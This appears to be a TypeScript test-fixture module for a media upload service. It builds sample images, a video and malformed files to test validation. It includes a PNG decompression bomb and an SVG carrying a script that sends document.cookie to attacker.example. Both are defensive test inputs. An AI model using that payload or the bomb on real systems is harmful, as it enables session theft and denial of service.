import { execFile } from "node:child_process";
import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { promisify } from "node:util";
import { crc32, deflateSync } from "node:zlib";
import sharp from "sharp";

const exec = promisify(execFile);

/**
 * A photo-like JPEG (smooth colour fields, not noise) of `width`×`height` stored pixels, with EXIF
 * orientation 6 (shown rotated 90° clockwise, so upright it is `height`×`width`) and GPS tags.
 */
export async function exifJpeg(width = 4000, height = 3000): Promise<Buffer> {
  const seed = await sharp({
    create: {
      width: 40,
      height: 30,
      channels: 3,
      background: "#808080",
      noise: { type: "gaussian", mean: 128, sigma: 60 },
    },
  })
    .png()
    .toBuffer();
  return sharp(seed)
    .resize(width, height, { kernel: "cubic" })
    .jpeg({ quality: 85 })
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: "Mercato test camera" },
      IFD3: {
        GPSLatitudeRef: "N",
        GPSLatitude: "48/1 51/1 2404/100",
        GPSLongitudeRef: "E",
        GPSLongitude: "2/1 21/1 0/1",
      },
    })
    .toBuffer();
}

/** A small PNG (`width`×`height`) with an alpha channel. */
export function smallPng(width = 64, height = 48): Promise<Buffer> {
  return sharp({ create: { width, height, channels: 4, background: { r: 10, g: 120, b: 200, alpha: 0.8 } } })
    .png()
    .toBuffer();
}

/** Whether a TIFF-structured EXIF block (as sharp's `metadata().exif` gives it) points to a GPS IFD. */
export function exifHasGps(exif: Buffer | undefined): boolean {
  if (!exif) return false;
  const tiff = exif.subarray(0, 6).toString("latin1") === "Exif\0\0" ? exif.subarray(6) : exif;
  const little = tiff.toString("latin1", 0, 2) === "II";
  const u16 = (at: number) => (little ? tiff.readUInt16LE(at) : tiff.readUInt16BE(at));
  const u32 = (at: number) => (little ? tiff.readUInt32LE(at) : tiff.readUInt32BE(at));
  const ifd0 = u32(4);
  const entries = u16(ifd0);
  for (let i = 0; i < entries; i++) if (u16(ifd0 + 2 + i * 12) === 0x8825) return true;
  return false;
}

const chunk = (type: string, data: Buffer) => {
  const body = Buffer.concat([Buffer.from(type, "latin1"), data]);
  const length = Buffer.alloc(4);
  length.writeUInt32BE(data.length);
  const crc = Buffer.alloc(4);
  crc.writeUInt32BE(crc32(body));
  return Buffer.concat([length, body, crc]);
};

/**
 * A PNG of a few hundred bytes whose header claims `size`×`size` RGB pixels (a decompression
 * bomb: decoding it would allocate `size`² × 3 bytes). Its data is one compressed row of zeros.
 */
export function bombPng(size = 30_000): Buffer {
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(size, 0);
  ihdr.writeUInt32BE(size, 4);
  ihdr.set([8, 2, 0, 0, 0], 8);
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk("IHDR", ihdr),
    chunk("IDAT", deflateSync(Buffer.alloc(1 + size * 3))),
    chunk("IEND", Buffer.alloc(0)),
  ]);
}

/** The first half of a photo-like JPEG: an upload cut short. */
export async function truncatedJpeg(): Promise<Buffer> {
  const whole = await exifJpeg(800, 600);
  return whole.subarray(0, Math.floor(whole.length / 2));
}

/** The start of a Windows executable (an MZ header pointing to a PE header), as if renamed `.jpg`. */
export function executableBytes(): Buffer {
  const exe = Buffer.alloc(1024);
  exe.write("MZ", 0, "latin1");
  exe.writeUInt32LE(0x80, 0x3c);
  exe.write("PE\0\0", 0x80, "latin1");
  exe.writeUInt16LE(0x14c, 0x84);
  return exe;
}

/** An SVG image carrying a script. */
export const svgWithScript = (): Buffer =>
  Buffer.from(
    '<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">' +
      '<script>fetch("https://attacker.example/?c=" + document.cookie)</script>' +
      '<rect width="100" height="100" fill="red"/></svg>',
  );

/** A `seconds` long `width`×`height` H.264/AAC MP4 test pattern with a tone (or none), written to `dir`. */
export async function testVideo(
  dir: string,
  options: { seconds?: number; width?: number; height?: number; audio?: boolean; name?: string } = {},
): Promise<string> {
  const { seconds = 10, width = 1280, height = 720, audio = true, name = "source.mp4" } = options;
  const path = join(dir, name);
  await exec("ffmpeg", [
    ...["-v", "error", "-y", "-f", "lavfi", "-i", `testsrc=size=${width}x${height}:rate=25`],
    ...(audio ? ["-f", "lavfi", "-i", "sine=frequency=440:sample_rate=48000"] : []),
    ...["-t", String(seconds), "-c:v", "libx264", "-preset", "ultrafast", "-pix_fmt", "yuv420p"],
    ...(audio ? ["-c:a", "aac"] : []),
    path,
  ]);
  return path;
}

/** Writes bytes to `dir/name` and returns the path. */
export async function writeFixture(dir: string, name: string, bytes: Uint8Array): Promise<string> {
  const path = join(dir, name);
  await writeFile(path, bytes);
  return path;
}
